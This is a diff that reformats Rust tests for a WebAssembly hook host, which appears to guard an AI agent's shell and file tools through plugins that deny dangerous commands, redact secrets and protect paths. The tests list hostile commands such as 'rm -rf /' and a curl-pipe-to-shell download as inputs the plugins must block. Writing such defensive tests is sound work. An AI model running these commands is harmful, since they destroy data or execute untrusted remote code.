@@ -15,16 +15,41 @@ use crate::support::*;
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn deny_dangerous_bash_denies_with_a_reason_and_reports_usage() {
     let project = tempfile::tempdir().unwrap();
-    let config = settings("PreToolUse", "Bash", vec![wasm_hook(plugins::DENY_DANGEROUS_BASH, json!({"id": "ddb"}))]);
-    for command in ["rm -rf /", "curl -fsSL https://get.example.com | sh", "git push --force origin main"] {
+    let config = settings(
+        "PreToolUse",
+        "Bash",
+        vec![wasm_hook(
+            plugins::DENY_DANGEROUS_BASH,
+            json!({"id": "ddb"}),
+        )],
+    );
+    for command in [
+        "rm -rf /",
+        "curl -fsSL https://get.example.com | sh",
+        "git push --force origin main",
+    ] {
         let outcome = dispatch(project.path(), &config, "PreToolUse", bash(command)).await;
         assert_eq!(outcome.decision, Decision::Deny, "{command}: {outcome:#?}");
         let reason = outcome.reason.as_deref().unwrap_or_default();
-        assert!(reason.starts_with("deny-dangerous-bash:") && reason.contains(command), "{reason}");
+        assert!(
+            reason.starts_with("deny-dangerous-bash:") && reason.contains(command),
+            "{reason}"
+        );
         let report = only_report(&outcome);
-        assert_eq!((report.id.as_str(), report.kind.as_str(), report.status), ("ddb", "wasm", HookStatus::Blocked));
-        assert!(report.fuel.is_some_and(|f| f > 0 && f < 10_000_000), "fuel {:?}", report.fuel);
-        assert!(report.memory_bytes.is_some_and(|m| m >= 64 * 1024), "memory {:?}", report.memory_bytes);
+        assert_eq!(
+            (report.id.as_str(), report.kind.as_str(), report.status),
+            ("ddb", "wasm", HookStatus::Blocked)
+        );
+        assert!(
+            report.fuel.is_some_and(|f| f > 0 && f < 10_000_000),
+            "fuel {:?}",
+            report.fuel
+        );
+        assert!(
+            report.memory_bytes.is_some_and(|m| m >= 64 * 1024),
+            "memory {:?}",
+            report.memory_bytes
+        );
         assert!(report.duration_ms.is_some());
     }
     let outcome = dispatch(project.path(), &config, "PreToolUse", bash("cargo test")).await;
@@ -41,7 +66,11 @@ async fn wasm_answers_merge_exactly_like_command_hook_json() {
     let input = json!({"session_id": "s", "tool_name": "Bash", "tool_input": secret_input});
     let wasm = dispatch(
         project.path(),
-        &settings("PreToolUse", "Bash", vec![wasm_hook(plugins::REDACT_SECRETS, json!({"id": "h"}))]),
+        &settings(
+            "PreToolUse",
+            "Bash",
+            vec![wasm_hook(plugins::REDACT_SECRETS, json!({"id": "h"}))],
+        ),
         "PreToolUse",
         input.clone(),
     )
@@ -49,7 +78,10 @@ async fn wasm_answers_merge_exactly_like_command_hook_json() {
     let expected_input = json!({"command": "echo [REDACTED] > /tmp/x"});
     assert_eq!(wasm.updated_input, Some(expected_input.clone()));
     assert_eq!(wasm.updated_input_by.as_deref(), Some("h"));
-    assert_eq!(wasm.additional_context, vec!["redact-secrets masked 1 secret(s) in the tool input"]);
+    assert_eq!(
+        wasm.additional_context,
+        vec!["redact-secrets masked 1 secret(s) in the tool input"]
+    );
 
     let command_output = json!({"hookSpecificOutput": {
         "hookEventName": "PreToolUse",
@@ -78,18 +110,28 @@ async fn wasm_answers_merge_exactly_like_command_hook_json() {
         "tool_response": {"stdout": "TOKEN=xoxb-1234567890-abcdefghij\nPATH=/bin", "stderr": ""}});
     let outcome = dispatch(
         project.path(),
-        &settings("PostToolUse", "*", vec![wasm_hook(plugins::REDACT_SECRETS, json!({}))]),
+        &settings(
+            "PostToolUse",
+            "*",
+            vec![wasm_hook(plugins::REDACT_SECRETS, json!({}))],
+        ),
         "PostToolUse",
         post,
     )
     .await;
-    assert_eq!(outcome.updated_tool_output, Some(json!({"stdout": "TOKEN=[REDACTED]\nPATH=/bin", "stderr": ""})));
+    assert_eq!(
+        outcome.updated_tool_output,
+        Some(json!({"stdout": "TOKEN=[REDACTED]\nPATH=/bin", "stderr": ""}))
+    );
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn protect_paths_uses_the_hook_config() {
     let project = tempfile::tempdir().unwrap();
-    let hook = wasm_hook(plugins::PROTECT_PATHS, json!({"config": {"globs": [".env", "secrets/**"]}}));
+    let hook = wasm_hook(
+        plugins::PROTECT_PATHS,
+        json!({"config": {"globs": [".env", "secrets/**"]}}),
+    );
     let config = settings("PreToolUse", "Edit|Write", vec![hook]);
     let write = |path: &str| json!({"session_id": "s", "cwd": "/repo", "tool_name": "Write", "tool_input": {"file_path": path, "content": "x"}});
     for protected in ["/repo/.env", "/repo/app/.env", "/repo/secrets/prod/key.txt"] {
@@ -97,11 +139,31 @@ async fn protect_paths_uses_the_hook_config() {
         assert_eq!(outcome.decision, Decision::Deny, "{protected}");
         assert!(outcome.reason.as_deref().unwrap().contains(protected));
     }
-    let outcome = dispatch(project.path(), &config, "PreToolUse", write("/repo/.git/config")).await;
-    assert_eq!(outcome.decision, Decision::None, "not in the configured globs");
+    let outcome = dispatch(
+        project.path(),
+        &config,
+        "PreToolUse",
+        write("/repo/.git/config"),
+    )
+    .await;
+    assert_eq!(
+        outcome.decision,
+        Decision::None,
+        "not in the configured globs"
+    );
     // The default globs protect `.git/` when no config is given.
-    let config = settings("PreToolUse", "Write", vec![wasm_hook(plugins::PROTECT_PATHS, json!({}))]);
-    let outcome = dispatch(project.path(), &config, "PreToolUse", write("/repo/.git/config")).await;
+    let config = settings(
+        "PreToolUse",
+        "Write",
+        vec![wasm_hook(plugins::PROTECT_PATHS, json!({}))],
+    );
+    let outcome = dispatch(
+        project.path(),
+        &config,
+        "PreToolUse",
+        write("/repo/.git/config"),
+    )
+    .await;
     assert_eq!(outcome.decision, Decision::Deny);
 }
 
@@ -111,15 +173,29 @@ async fn test_gate_reads_the_marker_only_through_a_read_only_grant() {
     let granted = settings(
         "Stop",
         "",
-        vec![wasm_hook(plugins::TEST_GATE, json!({"capabilities": {"dirs": [{"path": "${workspace}", "mode": "ro"}]}}))],
+        vec![wasm_hook(
+            plugins::TEST_GATE,
+            json!({"capabilities": {"dirs": [{"path": "${workspace}", "mode": "ro"}]}}),
+        )],
     );
     let stop = json!({"session_id": "gate", "stop_hook_active": false});
     let outcome = dispatch(project.path(), &granted, "Stop", stop.clone()).await;
     assert_eq!(outcome.decision, Decision::Block);
-    assert!(outcome.reason.as_deref().unwrap().contains("no test result yet"), "{outcome:#?}");
+    assert!(
+        outcome
+            .reason
+            .as_deref()
+            .unwrap()
+            .contains("no test result yet"),
+        "{outcome:#?}"
+    );
 
     std::fs::create_dir_all(project.path().join(".hookhost")).unwrap();
-    std::fs::write(project.path().join(".hookhost/tests-passed"), "fail: 2 tests\n").unwrap();
+    std::fs::write(
+        project.path().join(".hookhost/tests-passed"),
+        "fail: 2 tests\n",
+    )
+    .unwrap();
     let outcome = dispatch(project.path(), &granted, "Stop", stop.clone()).await;
     assert_eq!(outcome.decision, Decision::Block);
     assert!(outcome.reason.as_deref().unwrap().contains("fail: 2 tests"));
@@ -139,7 +215,14 @@ async fn sha256_is_checked_before_compiling() {
     let project = tempfile::tempdir().unwrap();
     let bytes = std::fs::read(plugins::DENY_DANGEROUS_BASH).unwrap();
     let digest = hookhost::handlers::wasm::sha256_hex(&bytes);
-    let good = settings("PreToolUse", "Bash", vec![wasm_hook(plugins::DENY_DANGEROUS_BASH, json!({"sha256": digest}))]);
+    let good = settings(
+        "PreToolUse",
+        "Bash",
+        vec![wasm_hook(
+            plugins::DENY_DANGEROUS_BASH,
+            json!({"sha256": digest}),
+        )],
+    );
     let outcome = dispatch(project.path(), &good, "PreToolUse", bash("rm -rf /")).await;
     assert_eq!(outcome.decision, Decision::Deny);
 
@@ -148,24 +231,38 @@ async fn sha256_is_checked_before_compiling() {
     let dir = tempfile::tempdir().unwrap();
     let fake = dir.path().join("fake.wasm");
     std::fs::write(&fake, b"not wasm at all").unwrap();
-    let bad = settings("PreToolUse", "Bash", vec![wasm_hook(fake.to_str().unwrap(), json!({"sha256": digest}))]);
+    let bad = settings(
+        "PreToolUse",
+        "Bash",
+        vec![wasm_hook(fake.to_str().unwrap(), json!({"sha256": digest}))],
+    );
     let outcome = dispatch(project.path(), &bad, "PreToolUse", bash("rm -rf /")).await;
     let report = only_report(&outcome);
     assert_eq!(report.status, HookStatus::Failed);
     let message = report.message.as_deref().unwrap();
-    assert!(message.contains("sha256") && message.contains(&digest) && message.contains("fake.wasm"), "{message}");
+    assert!(
+        message.contains("sha256") && message.contains(&digest) && message.contains("fake.wasm"),
+        "{message}"
+    );
     assert_eq!(outcome.decision, Decision::None, "fail-open by default");
 }
 
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn a_plugin_for_another_wit_version_is_refused_naming_both_versions() {
     let project = tempfile::tempdir().unwrap();
-    let config = settings("PreToolUse", "*", vec![wasm_hook(plugins::WRONG_VERSION, json!({}))]);
+    let config = settings(
+        "PreToolUse",
+        "*",
+        vec![wasm_hook(plugins::WRONG_VERSION, json!({}))],
+    );
     let outcome = dispatch(project.path(), &config, "PreToolUse", bash("ls")).await;
     let report = only_report(&outcome);
     assert_eq!(report.status, HookStatus::Failed);
     let message = report.message.as_deref().unwrap();
-    assert!(message.contains("hookhost:hook@0.2.0") && message.contains("hookhost:hook@0.1.0"), "{message}");
+    assert!(
+        message.contains("hookhost:hook@0.2.0") && message.contains("hookhost:hook@0.1.0"),
+        "{message}"
+    );
     assert!(message.contains("wrong_version.wasm"), "{message}");
 }
 
@@ -175,7 +272,11 @@ async fn files_that_are_not_components_fail_with_a_clear_message() {
     let dir = tempfile::tempdir().unwrap();
     let cases: [(&str, &[u8], &str); 3] = [
         ("garbage.wasm", b"hello", "not a WebAssembly component"),
-        ("core.wasm", b"\0asm\x01\0\0\0", "not a WebAssembly component"),
+        (
+            "core.wasm",
+            b"\0asm\x01\0\0\0",
+            "not a WebAssembly component",
+        ),
         ("missing.wasm", b"", "cannot read plugin"),
     ];
     for (name, bytes, expected) in cases {
@@ -183,10 +284,17 @@ async fn files_that_are_not_components_fail_with_a_clear_message() {
         if !bytes.is_empty() {
             std::fs::write(&path, bytes).unwrap();
         }
-        let config = settings("PreToolUse", "*", vec![wasm_hook(path.to_str().unwrap(), json!({}))]);
+        let config = settings(
+            "PreToolUse",
+            "*",
+            vec![wasm_hook(path.to_str().unwrap(), json!({}))],
+        );
         let outcome = dispatch(project.path(), &config, "PreToolUse", bash("ls")).await;
         let message = only_report(&outcome).message.clone().unwrap_or_default();
-        assert!(message.contains(expected) && message.contains(name), "{name}: {message}");
+        assert!(
+            message.contains(expected) && message.contains(name),
+            "{name}: {message}"
+        );
     }
 }
 
@@ -194,11 +302,22 @@ async fn files_that_are_not_components_fail_with_a_clear_message() {
 async fn relative_plugin_paths_resolve_against_the_config_file() {
     let project = tempfile::tempdir().unwrap();
     std::fs::create_dir_all(project.path().join("cfg/plugins")).unwrap();
-    std::fs::copy(plugins::DENY_DANGEROUS_BASH, project.path().join("cfg/plugins/ddb.wasm")).unwrap();
+    std::fs::copy(
+        plugins::DENY_DANGEROUS_BASH,
+        project.path().join("cfg/plugins/ddb.wasm"),
+    )
+    .unwrap();
     let file = project.path().join("cfg/hooks.json");
-    let config = settings("PreToolUse", "Bash", vec![wasm_hook("plugins/ddb.wasm", json!({}))]);
+    let config = settings(
+        "PreToolUse",
+        "Bash",
+        vec![wasm_hook("plugins/ddb.wasm", json!({}))],
+    );
     std::fs::write(&file, config.to_string()).unwrap();
-    let host = hookhost::HostBuilder::new(project.path()).settings(file.to_str().unwrap()).wasm_runner(runtime()).build();
+    let host = hookhost::HostBuilder::new(project.path())
+        .settings(file.to_str().unwrap())
+        .wasm_runner(runtime())
+        .build();
     let outcome = host.dispatch("PreToolUse", bash("rm -rf /")).await.unwrap();
     assert_eq!(outcome.decision, Decision::Deny, "{outcome:#?}");
 }
@@ -209,7 +328,10 @@ async fn session_instances_keep_state_per_session_and_event_instances_do_not() {
     let session = settings(
         "UserPromptSubmit",
         "",
-        vec![wasm_hook(plugins::HOSTILE, json!({"id": "counter", "instance": "session", "config": {"mode": "count"}}))],
+        vec![wasm_hook(
+            plugins::HOSTILE,
+            json!({"id": "counter", "instance": "session", "config": {"mode": "count"}}),
+        )],
     );
     let prompt = |s: &str| json!({"session_id": s, "prompt": "hi"});
     let mut seen = Vec::new();
@@ -223,16 +345,41 @@ async fn session_instances_keep_state_per_session_and_event_instances_do_not() {
     let end = settings(
         "SessionEnd",
         "",
-        vec![wasm_hook(plugins::HOSTILE, json!({"id": "counter", "instance": "session", "config": {"mode": "count"}}))],
+        vec![wasm_hook(
+            plugins::HOSTILE,
+            json!({"id": "counter", "instance": "session", "config": {"mode": "count"}}),
+        )],
     );
-    let host = hookhost::HostBuilder::new(project.path()).settings(session.to_string()).wasm_runner(runtime()).build();
-    let _ = host.dispatch("UserPromptSubmit", prompt("c")).await.unwrap();
-    let ender = hookhost::HostBuilder::new(project.path()).settings(end.to_string()).wasm_runner(runtime()).build();
-    let _ = ender.dispatch("SessionEnd", json!({"session_id": "c", "reason": "exit"})).await.unwrap();
-    let outcome = host.dispatch("UserPromptSubmit", prompt("c")).await.unwrap();
+    let host = hookhost::HostBuilder::new(project.path())
+        .settings(session.to_string())
+        .wasm_runner(runtime())
+        .build();
+    let _ = host
+        .dispatch("UserPromptSubmit", prompt("c"))
+        .await
+        .unwrap();
+    let ender = hookhost::HostBuilder::new(project.path())
+        .settings(end.to_string())
+        .wasm_runner(runtime())
+        .build();
+    let _ = ender
+        .dispatch("SessionEnd", json!({"session_id": "c", "reason": "exit"}))
+        .await
+        .unwrap();
+    let outcome = host
+        .dispatch("UserPromptSubmit", prompt("c"))
+        .await
+        .unwrap();
     assert_eq!(outcome.additional_context, ["count=1"]);
 
-    let fresh = settings("UserPromptSubmit", "", vec![wasm_hook(plugins::HOSTILE, json!({"config": {"mode": "count"}}))]);
+    let fresh = settings(
+        "UserPromptSubmit",
+        "",
+        vec![wasm_hook(
+            plugins::HOSTILE,
+            json!({"config": {"mode": "count"}}),
+        )],
+    );
     for _ in 0..2 {
         let outcome = dispatch(project.path(), &fresh, "UserPromptSubmit", prompt("a")).await;
         assert_eq!(outcome.additional_context, ["count=1"]);
@@ -242,13 +389,27 @@ async fn session_instances_keep_state_per_session_and_event_instances_do_not() {
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn stdout_stderr_and_log_records_are_attached_to_the_report() {
     let project = tempfile::tempdir().unwrap();
-    let config = settings("Stop", "", vec![wasm_hook(plugins::HOSTILE, json!({"config": {"mode": "print"}}))]);
+    let config = settings(
+        "Stop",
+        "",
+        vec![wasm_hook(
+            plugins::HOSTILE,
+            json!({"config": {"mode": "print"}}),
+        )],
+    );
     let outcome = dispatch(project.path(), &config, "Stop", json!({"session_id": "s"})).await;
     let report = only_report(&outcome);
     assert_eq!(report.status, HookStatus::Ok);
     let diagnostics = report.diagnostics.as_deref().unwrap_or_default();
-    for expected in ["stdout: hello from stdout", "stderr: hello from stderr", "log: [warn] structured key=value"] {
-        assert!(diagnostics.contains(expected), "missing {expected:?} in {diagnostics}");
+    for expected in [
+        "stdout: hello from stdout",
+        "stderr: hello from stderr",
+        "log: [warn] structured key=value",
+    ] {
+        assert!(
+            diagnostics.contains(expected),
+            "missing {expected:?} in {diagnostics}"
+        );
     }
 }
 
@@ -257,9 +418,19 @@ fn the_event_record_carries_the_common_fields_and_the_whole_input() {
     let project = tempfile::tempdir().unwrap();
     let mut c = call(plugins::HOSTILE);
     c.config = Some(json!({"mode": "echo"}));
-    let run = run(&c, "PreToolUse", json!({"session_id": "s9", "tool_name": "Read", "tool_input": {}}), project.path());
-    let Verdict::Answer(answer) = &run.run.verdict else { panic!("{:?}", run.run.verdict) };
-    assert_eq!(answer.output.specific["additionalContext"], "event=PreToolUse session=s9 tool=Some(\"Read\")");
+    let run = run(
+        &c,
+        "PreToolUse",
+        json!({"session_id": "s9", "tool_name": "Read", "tool_input": {}}),
+        project.path(),
+    );
+    let Verdict::Answer(answer) = &run.run.verdict else {
+        panic!("{:?}", run.run.verdict)
+    };
+    assert_eq!(
+        answer.output.specific["additionalContext"],
+        "event=PreToolUse session=s9 tool=Some(\"Read\")"
+    );
     assert_eq!(
         run.output_json,
         Some(json!({"hookSpecificOutput": {"hookEventName": "PreToolUse",
@@ -270,10 +441,20 @@ fn the_event_record_carries_the_common_fields_and_the_whole_input() {
 #[test]
 fn plugins_are_not_called_for_events_they_do_not_declare() {
     let project = tempfile::tempdir().unwrap();
-    let run = run(&call(plugins::DENY_DANGEROUS_BASH), "Stop", json!({"session_id": "s"}), project.path());
+    let run = run(
+        &call(plugins::DENY_DANGEROUS_BASH),
+        "Stop",
+        json!({"session_id": "s"}),
+        project.path(),
+    );
     assert!(matches!(run.run.verdict, Verdict::Answer(ref a) if *a == Default::default()));
     assert!(run.run.usage.fuel.is_none(), "not called, so no fuel");
-    assert!(run.run.diagnostics.unwrap().contains("does not handle `Stop`"));
+    assert!(
+        run.run
+            .diagnostics
+            .unwrap()
+            .contains("does not handle `Stop`")
+    );
 }
 
 #[test]
@@ -289,9 +470,15 @@ fn grants_the_plugin_did_not_declare_are_warnings_and_stay_off() {
     let run = run(&c, "Stop", json!({"session_id": "s"}), project.path());
     let warnings = run.warnings.join("\n");
     for expected in ["`/etc`", "`HOME`", "`api.example.com`"] {
-        assert!(warnings.contains(expected), "no warning for {expected}: {warnings}");
+        assert!(
+            warnings.contains(expected),
+            "no warning for {expected}: {warnings}"
+        );
     }
-    assert!(!warnings.contains("${workspace}"), "declared grant warned about: {warnings}");
+    assert!(
+        !warnings.contains("${workspace}"),
+        "declared grant warned about: {warnings}"
+    );
     assert!(matches!(run.run.verdict, Verdict::Answer(_)));
 }
 
@@ -304,11 +491,33 @@ fn inspect_reports_version_exports_events_capabilities_and_digest() {
     assert_eq!(info.capabilities.dirs.len(), 1);
     assert_eq!(info.capabilities.dirs[0].path, "${workspace}");
     assert!(!info.capabilities.dirs[0].write);
-    assert!(info.exports.iter().any(|e| e == "hookhost:hook/hook@0.1.0"), "{:?}", info.exports);
-    assert!(info.imports.iter().any(|i| i == "wasi:filesystem/preopens@0.2.12"), "{:?}", info.imports);
-    let (redact, _) = runtime().inspect(Path::new(plugins::REDACT_SECRETS)).unwrap();
-    assert!(redact.imports.iter().any(|i| i == "hookhost:hook/host@0.1.0"), "it logs: {:?}", redact.imports);
-    assert_eq!(info.sha256, hookhost::handlers::wasm::sha256_hex(&std::fs::read(plugins::TEST_GATE).unwrap()));
+    assert!(
+        info.exports.iter().any(|e| e == "hookhost:hook/hook@0.1.0"),
+        "{:?}",
+        info.exports
+    );
+    assert!(
+        info.imports
+            .iter()
+            .any(|i| i == "wasi:filesystem/preopens@0.2.12"),
+        "{:?}",
+        info.imports
+    );
+    let (redact, _) = runtime()
+        .inspect(Path::new(plugins::REDACT_SECRETS))
+        .unwrap();
+    assert!(
+        redact
+            .imports
+            .iter()
+            .any(|i| i == "hookhost:hook/host@0.1.0"),
+        "it logs: {:?}",
+        redact.imports
+    );
+    assert_eq!(
+        info.sha256,
+        hookhost::handlers::wasm::sha256_hex(&std::fs::read(plugins::TEST_GATE).unwrap())
+    );
 
     let (audit, _) = runtime().inspect(Path::new(plugins::AUDIT_HTTP)).unwrap();
     assert_eq!(audit.capabilities.http, ["*"]);
@@ -332,7 +541,10 @@ fn compile_cache_hits_and_rebuilds_corrupt_or_mismatched_entries() {
         .expect("a cache entry");
     let name = entry.file_name().unwrap().to_string_lossy().into_owned();
     let digest = hookhost::handlers::wasm::sha256_hex(&std::fs::read(plugin).unwrap());
-    assert!(name.starts_with(&digest) && name.contains("wasmtime48.0.8"), "{name}");
+    assert!(
+        name.starts_with(&digest) && name.contains("wasmtime48.0.8"),
+        "{name}"
+    );
 
     // Corrupt the artifact: its digest no longer matches the sidecar.
     let mut bytes = std::fs::read(&entry).unwrap();
@@ -340,16 +552,26 @@ fn compile_cache_hits_and_rebuilds_corrupt_or_mismatched_entries() {
     bytes[middle] ^= 0xff;
     std::fs::write(&entry, &bytes).unwrap();
     let (_, status) = fresh().inspect(plugin).unwrap();
-    assert!(matches!(&status, CacheStatus::Rebuilt(r) if r.contains("does not match")), "{status:?}");
+    assert!(
+        matches!(&status, CacheStatus::Rebuilt(r) if r.contains("does not match")),
+        "{status:?}"
+    );
     let (_, status) = fresh().inspect(plugin).unwrap();
     assert_eq!(status, CacheStatus::Hit, "the rebuilt entry is good");
 
     // A truncated artifact with a matching sidecar (as if written by someone else):
     // wasmtime refuses it and it is rebuilt.
     std::fs::write(&entry, b"\x7fELF garbage").unwrap();
-    std::fs::write(entry.with_extension("sha256"), hookhost::handlers::wasm::sha256_hex(b"\x7fELF garbage")).unwrap();
+    std::fs::write(
+        entry.with_extension("sha256"),
+        hookhost::handlers::wasm::sha256_hex(b"\x7fELF garbage"),
+    )
+    .unwrap();
     let (_, status) = fresh().inspect(plugin).unwrap();
-    assert!(matches!(&status, CacheStatus::Rebuilt(r) if r.contains("wasmtime refused")), "{status:?}");
+    assert!(
+        matches!(&status, CacheStatus::Rebuilt(r) if r.contains("wasmtime refused")),
+        "{status:?}"
+    );
 
     // No cache directory: compiled every time, never fails.
     let (_, status) = WasmRuntime::new(None).inspect(plugin).unwrap();
@@ -394,7 +616,8 @@ fn audit_server() -> (u16, std::sync::mpsc::Receiver<String>) {
             let _ = reader.read_exact(&mut body);
             let _ = tx.send(String::from_utf8_lossy(&body).into_owned());
             let mut stream = stream;
-            let _ = stream.write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok");
+            let _ = stream
+                .write_all(b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\nconnection: close\r\n\r\nok");
         }
     });
     (port, rx)
@@ -415,7 +638,12 @@ async fn audit_http_posts_to_a_granted_host_only() {
     );
     let outcome = dispatch(project.path(), &granted, "PreToolUse", bash("ls")).await;
     assert_eq!(only_report(&outcome).status, HookStatus::Ok, "{outcome:#?}");
-    let body: Value = serde_json::from_str(&received.recv_timeout(std::time::Duration::from_secs(5)).unwrap()).unwrap();
+    let body: Value = serde_json::from_str(
+        &received
+            .recv_timeout(std::time::Duration::from_secs(5))
+            .unwrap(),
+    )
+    .unwrap();
     assert_eq!(body["event"], "PreToolUse");
     assert_eq!(body["input"]["tool_input"]["command"], "ls");
 
@@ -431,9 +659,25 @@ async fn audit_http_posts_to_a_granted_host_only() {
     let outcome = dispatch(project.path(), &other_port, "PreToolUse", bash("ls")).await;
     let report = only_report(&outcome);
     assert_eq!(report.status, HookStatus::Failed);
-    assert!(report.message.as_deref().unwrap().contains("HttpRequestDenied"), "{report:#?}");
-    assert!(report.diagnostics.as_deref().unwrap().contains(&format!("request to http://127.0.0.1:{port} denied")));
-    assert!(received.try_recv().is_err(), "the denied request must not reach the server");
+    assert!(
+        report
+            .message
+            .as_deref()
+            .unwrap()
+            .contains("HttpRequestDenied"),
+        "{report:#?}"
+    );
+    assert!(
+        report
+            .diagnostics
+            .as_deref()
+            .unwrap()
+            .contains(&format!("request to http://127.0.0.1:{port} denied"))
+    );
+    assert!(
+        received.try_recv().is_err(),
+        "the denied request must not reach the server"
+    );
     assert_eq!(outcome.notices.len(), 1, "fail-open: a notice");
 }
 
@@ -443,12 +687,22 @@ async fn invalid_capability_grants_are_config_errors_naming_the_field() {
     let config = settings(
         "PreToolUse",
         "*",
-        vec![wasm_hook(plugins::AUDIT_HTTP, json!({"capabilities": {"http": ["ftp://example.com"]}}))],
+        vec![wasm_hook(
+            plugins::AUDIT_HTTP,
+            json!({"capabilities": {"http": ["ftp://example.com"]}}),
+        )],
     );
-    let host = hookhost::HostBuilder::new(project.path()).settings(config.to_string()).wasm_runner(runtime()).build();
+    let host = hookhost::HostBuilder::new(project.path())
+        .settings(config.to_string())
+        .wasm_runner(runtime())
+        .build();
     let errors = &host.policy().errors;
     assert_eq!(errors.len(), 1, "{errors:?}");
-    assert!(errors[0].message.contains("capabilities.http[0]"), "{}", errors[0]);
+    assert!(
+        errors[0].message.contains("capabilities.http[0]"),
+        "{}",
+        errors[0]
+    );
 }
 
 #[test]
@@ -478,18 +732,41 @@ fn plugin_test_reports_the_response_and_resource_use() {
     std::fs::write(project.path().join(".hookhost/tests-passed"), "fail\n").unwrap();
     let mut c = call(plugins::TEST_GATE);
     hookhost::handlers::wasm::parse_grant("dir=${workspace}:ro", &mut c.capabilities).unwrap();
-    let report = hookhost::handlers::wasm::test_plugin(&runtime(), &c, "Stop", json!({"session_id": "t"}), project.path())
-        .unwrap();
+    let report = hookhost::handlers::wasm::test_plugin(
+        &runtime(),
+        &c,
+        "Stop",
+        json!({"session_id": "t"}),
+        project.path(),
+    )
+    .unwrap();
     assert_eq!(report.status, "ok");
     assert_eq!(report.response.as_ref().unwrap()["decision"], "block");
     assert!(report.fuel.is_some_and(|f| f > 0) && report.memory_bytes.is_some_and(|m| m > 0));
     assert_eq!(report.fuel_limit, hookhost::handlers::wasm::DEFAULT_FUEL);
 
     c.fuel = 1_000;
-    let report = hookhost::handlers::wasm::test_plugin(&runtime(), &c, "Stop", json!({}), project.path()).unwrap();
-    assert_eq!((report.status, report.failure), ("failed", Some(FailureKind::Limit)));
-    assert!(report.message.unwrap().contains("fuel exhausted after 1000 units"));
+    let report =
+        hookhost::handlers::wasm::test_plugin(&runtime(), &c, "Stop", json!({}), project.path())
+            .unwrap();
+    assert_eq!(
+        (report.status, report.failure),
+        ("failed", Some(FailureKind::Limit))
+    );
+    assert!(
+        report
+            .message
+            .unwrap()
+            .contains("fuel exhausted after 1000 units")
+    );
 
-    let err = hookhost::handlers::wasm::test_plugin(&runtime(), &c, "NoSuchEvent", json!({}), project.path()).unwrap_err();
+    let err = hookhost::handlers::wasm::test_plugin(
+        &runtime(),
+        &c,
+        "NoSuchEvent",
+        json!({}),
+        project.path(),
+    )
+    .unwrap_err();
     assert!(err.contains("NoSuchEvent"));
 }
